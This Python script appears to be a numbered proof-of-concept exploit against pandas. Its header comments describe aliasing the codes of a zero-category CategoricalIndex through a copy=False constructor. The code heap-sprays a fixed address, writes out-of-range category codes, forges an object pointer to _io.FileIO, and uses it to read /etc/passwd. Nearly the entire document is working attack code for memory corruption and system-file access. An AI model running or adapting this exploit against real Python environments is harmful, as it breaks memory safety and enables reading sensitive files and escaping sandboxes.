# source: as 016; the writer is pd.Index(reader, dtype=CategoricalDtype(...), copy=False).values (Index.__new__ -> CategoricalIndex(copy=False) -> Categorical(copy=False)) and the reader is an (immutable) CategoricalIndex
# family: copy=False categorical constructor shares codes of a 0-category categorical -> unchecked take reads sprayed words as object pointers (forged static type)
# goal: an immutable CategoricalIndex hands out _io.FileIO; reads /etc/passwd
import numpy as np
import pandas as pd

spray = []
for _ in range(64):
    arr = np.empty(112, dtype=object)
    spray.append(arr)
    spray.extend(np.full(112, 0xA3C9C0, dtype=np.int64) for _ in range(4))
reader = pd.CategoricalIndex([None] * 4, categories=pd.Index(arr[112:], dtype=object))
writer = pd.Index(reader, dtype=pd.CategoricalDtype([f"x{i}" for i in range(126)]), copy=False).values
writer[:] = ["x118", "x119", "x120", "x121"]
print("CategoricalIndex: categories", len(reader.categories), "codes", reader.codes.tolist(), flush=True)
F = reader.to_numpy()[0]
print("object read past 0 categories of an Index:", F)
print(F(chr(47).join(["", "etc", "passwd"])).read().decode().splitlines()[:3])
